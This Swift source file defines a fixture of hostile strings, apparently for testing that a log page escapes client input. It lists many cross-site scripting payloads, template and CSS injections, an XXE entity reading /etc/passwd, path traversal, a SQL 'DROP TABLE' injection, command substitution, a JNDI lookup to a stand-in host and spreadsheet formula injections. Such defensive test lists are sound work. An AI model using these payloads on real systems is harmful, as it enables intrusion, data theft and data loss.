import Foundation
import SystemPackage

/// Texts that clients send to break out of a page into which they are put.
enum HostileStrings {
  /// Those of this project; `hit()` is what a script that runs calls.
  static let own = scripts + attributes + contexts + characters

  /// The big list of naughty strings (github.com/minimaxir/big-list-of-naughty-strings, MIT), which is
  /// not part of this project; none where it is not beside it.
  static let naughty: [String] = {
    guard let file = LogFiles.folder?.appending("blns.json"),
      let data = FileManager.default.contents(atPath: file.string)
    else { return [] }
    return (try? JSONDecoder().decode([String].self, from: data)) ?? []
  }()

  private static let scripts = [
    "<script>hit()</script>", "<SCRIPT SRC=//x.example/hit.js></SCRIPT>", "<script>hit()//",
    "</td><script>hit()</script>", "</script><script>hit()</script>",
    "</ScRiPt ><script>hit()</script>",
    "</style><script>hit()</script>", "</title><script>hit()</script>", "--><script>hit()</script>",
    "<!--<script>hit()</script>-->", "<!-- --!><script>hit()</script>",
    "<![CDATA[<script>hit()</script>]]>",
    "</textarea><script>hit()</script>", "</noscript><script>hit()</script>",
    "<?xml?><script>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>", "<scr\u{0}ipt>hit()</script>",
    "<script\u{C}>hit()</script>",
    "<script/x>hit()</script>", "<script\n>hit()</script\n>", "<<script>hit()//<</script>",
    "<svg><script>hit()</script></svg>", "<svg><script href=data:,hit() /></svg>",
    "<math><mtext><script>hit()</script>", "<xmp><script>hit()</script></xmp>",
    "<template><script>hit()</script></template>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=data:text/html,<script>hit()</script>></object>", "<embed src=javascript:hit()>",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-", "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
  ]

  private static let attributes = [
    "<img src=x onerror=hit()>", "\"><img src=x onerror=hit()>", "'><img src=x onerror=hit()>",
    "\" onmouseover=\"hit()", "' onfocus='hit()' autofocus='", "` onerror=`hit()`",
    "x onload=hit() y",
    "<svg onload=hit()>", "<svg/onload=hit()>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set onbegin=hit() attributeName=x>",
    "<svg><a xlink:href=javascript:hit()><text>x</text></a>",
    "<body onload=hit()>", "<html onclick=hit()>", "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>", "<video src=x onerror=hit()>", "<audio src onloadstart=hit()>",
    "<marquee onstart=hit()>", "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe onload=hit()>",
    "<a href=javascript:hit() autofocus>x</a>", "<form action=javascript:hit()><input type=submit>",
    "<button formaction=javascript:hit()>x", "<isindex type=image src=1 onerror=hit()>",
    "<link rel=stylesheet href=data:text/css,*{display:none}>", "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<style>*{display:none}</style>",
    "<style onload=hit()></style>", "<math href=javascript:hit()>x</math>", "<plaintext>",
    "<textarea>",
    "<select><option>", "<table background=javascript:hit()>", "<td onclick=hit()>", "</table><hr>",
    "</tr>",
    "<image src=x onerror=hit()>", "<img src=x:x onerror\u{9}=\u{A}hit()>",
    "<img/src=`x`onerror=hit()>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit()&gt;\">",
  ]

  private static let contexts = [
    "javascript:hit()", "JaVaScRiPt:hit()", "java\u{9}script:hit()",
    "data:text/html,<script>hit()</script>",
    "vbscript:hit()", "//x.example", "https://x.example/\"onclick=\"hit()",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}", "#{hit()}", "<%= hit() %>", "{%raw%}", "`${hit()}`", "');hit();//", "\");hit();//",
    "\\\");hit();//",
    "\"};hit();var a={\"", "]]};hit()//", "*/hit()/*", "\u{2028}hit()\u{2029}", "\nhit()\n",
    "\r\nhit()\r\n",
    "};}*{background:url(javascript:hit())}", "}body{display:none}", "expression(hit())",
    "@import'//x.example/a.css';",
    "\\3c script\\3e hit()", "-moz-binding:url(//x.example)", "</style><style>*{display:none}",
    "url(\"//x.example\")",
    "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;", "&quot;&gt;",
    "&amp;lt;",
    "&NewLine;", "&lt", "&#x3c", "<!DOCTYPE html>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<!--", "-->", "<![CDATA[", "]]>",
    "=HYPERLINK(\"//x.example\")", "=1+1", "+1", "-1", "@SUM(1)", "| a | b |",
    "[x](javascript:hit())", "![x](//x.example/a.png)",
    "../../etc/passwd", "'; DROP TABLE logs; --", "$(hit)", "`hit`", "${jndi:ldap://x.example/a}",
    "__proto__", "constructor",
    "[object Object]", "undefined", "null", "NaN", "true", "0", "%s%n%x", "\\", "\"", "'", "<", ">",
    "&", "/", "\u{0}",
  ]

  private static let characters = [
    "\u{1B}[31mred\u{1B}[0m", "\u{1B}]0;title\u{7}", "\u{9B}31m", "\u{7F}\u{8}\u{8}", "\u{85}next",
    "a\u{AD}b",
    "\u{202E}gnp.exe", "\u{2066}a\u{2069}", "\u{200B}zero", "\u{FEFF}mark", "\u{E000}",
    "\u{10FFFF}", "\u{FFFD}",
    "e" + String(repeating: "\u{301}", count: 60), "ｓｃｒｉｐｔ", "‹script›", "＜script＞hit()＜/script＞",
    "ʼ onclickʼ",
    "größe 漢字 日本 한국 عربي עברית ไทย", "👩‍👩‍👧‍👦 🏳️‍🌈", "İstanbul ı", "ﷺ", "𝒽𝒾𝓉", "\u{1F1E6}\u{1F1E7}",
    String(repeating: "<b>", count: 3000), String(repeating: "&", count: 5000),
    String(repeating: "A", count: 9000),
  ]
}
